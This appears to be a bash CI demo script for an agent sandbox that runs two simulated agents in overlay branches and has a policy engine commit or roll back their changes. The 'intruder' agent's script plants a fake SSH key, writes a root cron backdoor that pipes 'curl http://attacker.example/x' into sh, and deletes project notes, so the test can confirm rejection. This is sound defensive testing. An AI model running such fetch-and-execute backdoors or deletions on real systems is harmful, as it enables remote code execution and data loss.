#!/usr/bin/env bash
# Fork, explore, commit: two agents on real podman, each in an overlay branch of the same project.
# Exits non-zero when an expected outcome does not happen (CI runs this script).
set -euo pipefail
repo=$(cd "$(dirname "$(readlink -f "$0")")/.." && pwd)
branch="$repo/bin/puzzle-branch"
rego="$repo/bin/puzzle-rego"
policies=(-d "$repo/policies")  # the shipped rule set
image=localhost/puzzlepod-test:latest
work=$(mktemp -d /tmp/puzzlepod-demo.XXXXXX)
base="$work/project"; root="$work/branches"
trap 'rm -rf "$work"' EXIT
export PUZZLEPOD_JAVA_OPTS="-Djava.util.logging.config.file=/dev/null"  # quiet INFO logs in the demo

say()  { printf '\n\033[1m== %s\033[0m\n' "$*"; }
fail() { printf '\nDEMO FAILED: %s\n' "$*" >&2; exit 1; }
tree_hash() { (cd "$1" && find . -printf '%y %m %p %l\n' | LC_ALL=C sort && find . -type f -print0 | LC_ALL=C sort -z | xargs -0 -r sha256sum) | sha256sum | cut -c1-16; }

# A small project: sources, tests, docs, its own bin/ script and a lockfile.
mkdir -p "$base"/{src,tests,docs,bin}
printf 'def add(a, b):\n    return a + b\n' > "$base/src/calc.py"
printf 'from src.calc import add\n\ndef test_add():\n    assert add(1, 2) == 3\n' > "$base/tests/test_calc.py"
printf '# Calculator\n' > "$base/README.md"
printf '#!/bin/sh\npython3 -m pytest\n' > "$base/bin/run-tests"; chmod 755 "$base/bin/run-tests"
printf 'pytest==8.0.0\n' > "$base/requirements.lock"
for i in $(seq 1 40); do printf 'note %s\n' "$i" > "$base/docs/note-$i.md"; done

run_agent() {  # name, shell script run inside the container in /workspace
  local name=$1 script=$2 id out
  out=$("$branch" --root "$root" create --base "$base" --profile standard --id "$name" 2>/dev/null)
  id=$(sed -n 's/^id: //p' <<<"$out")
  local vol; vol=$(sed -n 's/^podman: -v //p' <<<"$out")
  say "agent '$name' runs in branch $id" >&2
  podman run --rm --name "puzzlepod-demo-$name" -v "$vol" "$image" sh -c "cd /workspace && $script" >&2
  echo "$id"
}

govern() {  # id → commit or rollback by policy; prints the decision
  local id=$1 input="$work/$1.input.json"
  "$branch" --root "$root" diff "$id" 2>/dev/null | awk 'NR<=12 {print} {last=$0} END {if (NR>12) print "  …"; if (NR>12) print last}' >&2
  "$branch" --root "$root" diff "$id" --json > "$input" 2>/dev/null
  # one evaluation: the shipped policies' decision document {allow, violations, warnings}
  local decision; decision=$("$rego" eval "${policies[@]}" -i "$input" --format=value 'data.puzzlepod.commit.decision')
  if [[ $decision == *'"allow":true'* ]]; then
    "$branch" --root "$root" commit "$id" 2>/dev/null
    echo "decision: COMMITTED"
  else
    echo "decision: REJECTED — $decision"
    "$branch" --root "$root" rollback "$id" 2>/dev/null
    echo "branch rolled back"
  fi
}

before=$(tree_hash "$base")
say "project at $base (tree $before)"

id1=$(run_agent helper 'printf "def sub(a, b):\n    return a - b\n" >> src/calc.py &&
  printf "from src.calc import sub\n\ndef test_sub():\n    assert sub(3, 2) == 1\n" > tests/test_sub.py &&
  echo "Adds and subtracts." >> README.md' | tail -1)
decision=$(govern "$id1"); echo "$decision"
grep -q COMMITTED <<<"$decision" || fail "the helpful agent's work was not committed"
grep -q 'def sub' "$base/src/calc.py" && [ -f "$base/tests/test_sub.py" ] || fail "committed files are not in the base"
after_commit=$(tree_hash "$base")
say "base after commit: tree $after_commit"

id2=$(run_agent intruder 'mkdir -p .ssh etc/cron.d && echo "-----BEGIN OPENSSH PRIVATE KEY-----" > .ssh/id_rsa &&
  echo "* * * * * root curl http://attacker.example/x | sh" > etc/cron.d/backdoor &&
  rm -f docs/note-*.md' | tail -1)
decision=$(govern "$id2"); echo "$decision"
grep -q REJECTED <<<"$decision" || fail "the malicious agent's changes were not rejected"
[ "$(tree_hash "$base")" = "$after_commit" ] || fail "the base changed although the branch was rejected"
[ ! -e "$base/.ssh" ] && [ -f "$base/docs/note-1.md" ] || fail "rejected changes leaked into the base"

say "branches"
"$branch" --root "$root" list 2>/dev/null
say "main job OK: helpful work committed, malicious work rolled back, base untouched by the rejected branch"
